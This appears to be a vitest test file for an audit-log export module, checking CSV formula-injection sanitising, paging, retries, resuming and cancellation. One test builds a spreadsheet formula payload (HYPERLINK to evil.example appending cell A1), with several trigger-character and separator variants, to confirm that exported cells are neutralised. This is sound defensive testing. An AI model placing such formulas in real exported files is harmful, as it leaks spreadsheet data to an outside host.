import { describe, expect, test } from 'vitest';
import type { AuditLogQuery } from '../operations.generated.ts';
import { beginning, csv, exportEvents, jsonLines, type Progress, type Sink } from './export.ts';

type Events = Parameters<typeof csv.write>[0];

function eventOf(value: string, id = '1'): Events[number] {
  return {
    id,
    happenedAt: '2026-11-29T12:00:00Z',
    kind: 'auth.login.failure',
    side: 'user',
    staff: null,
    actorId: value,
    subjectId: null,
    address: null,
    requestId: null,
    details: [{ name: 'email', value }],
  };
}

/** The cells of a file with one event, as a spreadsheet divides it that knows of no quotes within a cell. */
function cellsOf(value: string, separator: string): string[] {
  return (csv.head + csv.write([eventOf(value)])).split(new RegExp(`[${separator}\\r\\n]`));
}

test.each(['=', '+', '-', '@', '＝', '\t=', ' =', '"=', '\n='])(
  'no cell begins with a formula: %j',
  (start) => {
    const formula = `${start}HYPERLINK("https://evil.example/?"&A1)`;
    for (const separator of [',', ';', '\\t']) {
      for (const text of [formula, `x;${formula}`, `x\t${formula}`, `x\r\n${formula}`]) {
        // The comma divides none of these: a cell with one is in quotes.
        const cells = cellsOf(text, separator).filter((cell) => separator !== ',' || !cell.startsWith('"'));
        expect(cells.filter((cell) => /^[\s"]*[=+\-@＝＋－＠]/.test(cell))).toEqual([]);
      }
    }
  },
);

test('other texts stay as they are', () => {
  expect(cellsOf('o-r=d@x;y 2', '|')[2]).toBe(
    '2026-11-29T12:00:00Z,auth.login.failure,user,,o-r=d@x;y 2,,,,email=o-r=d@x;y 2,1',
  );
});

/** A log of `total` events, which grows by one at its beginning with each page that is asked for. */
function logOf(total: number) {
  let added = 0;
  const asked: (string | null)[] = [];
  return {
    asked,
    async ask(after: string | null): Promise<AuditLogQuery> {
      asked.push(after);
      added += 1;
      // Latest first, by number: a cursor is that of the last event of a page.
      const first = after === null ? total : Number(after) - 1;
      const numbers = Array.from({ length: Math.min(100, first) }, (_, index) => first - index);
      return {
        auditLog: {
          edges: numbers.map((number) => ({ node: eventOf('x', String(number)) })),
          pageInfo: { hasNextPage: (numbers.at(-1) ?? 1) > 1, endCursor: String(numbers.at(-1) ?? added) },
        },
      };
    },
  };
}

function collect(): Sink & { lines: number; longest: number; ids: Set<string> } {
  return {
    lines: 0,
    longest: 0,
    ids: new Set(),
    async write(text) {
      const lines = text.split('\n').filter(Boolean);
      this.lines += lines.length;
      this.longest = Math.max(this.longest, text.length);
      for (const line of lines) this.ids.add((JSON.parse(line) as { id: string }).id);
    },
    async close() {},
    async abort() {},
  };
}

describe('an export', () => {
  const endless = new AbortController().signal;
  const passing = (thrown: unknown) => ((thrown as Error).message === 'busy' ? 2 : undefined);
  const options = { format: jsonLines, from: beginning, signal: endless, passing, onProgress: () => {} };

  test('of 100,000 events has each of them once, and never more than a page of them in a text', async () => {
    const log = logOf(100_000);
    const sink = collect();
    const seen: Progress[] = [];
    await exportEvents({ ...options, ask: log.ask, sink, onProgress: (progress) => seen.push(progress) });
    expect(sink.lines).toBe(100_000);
    expect(sink.ids.size).toBe(100_000);
    expect(sink.longest).toBeLessThan(40_000);
    expect(seen.at(-1)).toMatchObject({ events: 100_000, after: undefined });
  });

  test('asks again for a page that fails for a moment, as late as the server says', async () => {
    const log = logOf(250);
    const waits: number[] = [];
    let failures = 2;
    const ask = async (after: string | null) => {
      if (after !== null && failures > 0) {
        failures -= 1;
        throw new Error('busy');
      }
      return log.ask(after);
    };
    const sink = collect();
    await exportEvents({ ...options, ask, sink, wait: async (ms) => void waits.push(ms) });
    expect(sink.ids.size).toBe(250);
    expect(waits).toEqual([2000, 3000]);
  });

  test('stops at a page that cannot be had, keeps what came, and goes on from there without a second head', async () => {
    const log = logOf(250);
    let isBroken = true;
    const ask = async (after: string | null) => {
      if (isBroken && after !== null) throw new Error('refused');
      return log.ask(after);
    };
    const texts: string[] = [];
    const sink: Sink = {
      write: async (text) => void texts.push(text),
      close: async () => {},
      abort: async () => {},
    };
    let reached: Progress = beginning;
    const run = (from: Progress) =>
      exportEvents({
        ...options,
        format: csv,
        ask,
        sink,
        from,
        onProgress: (progress) => {
          reached = progress;
        },
      });
    await expect(run(beginning)).rejects.toThrow('refused');
    expect(reached).toEqual({ events: 100, reached: '2026-11-29T12:00:00Z', after: '151' });
    isBroken = false;
    await run(reached);
    const lines = texts.join('').trimEnd().split('\r\n');
    expect(lines).toHaveLength(251);
    expect(new Set(lines).size).toBe(251);
    expect(lines[0]).toBe(csv.head.trimEnd());
  });

  test('asks for nothing more after it was cancelled', async () => {
    const log = logOf(1000);
    const controller = new AbortController();
    const sink = collect();
    const onProgress = ({ events }: Progress) => {
      if (events === 300) controller.abort();
    };
    const cancelled = exportEvents({ ...options, ask: log.ask, sink, signal: controller.signal, onProgress });
    await expect(cancelled).rejects.toThrow(/abort/i);
    expect(log.asked).toHaveLength(3);
    expect(sink.lines).toBe(300);
  });
});
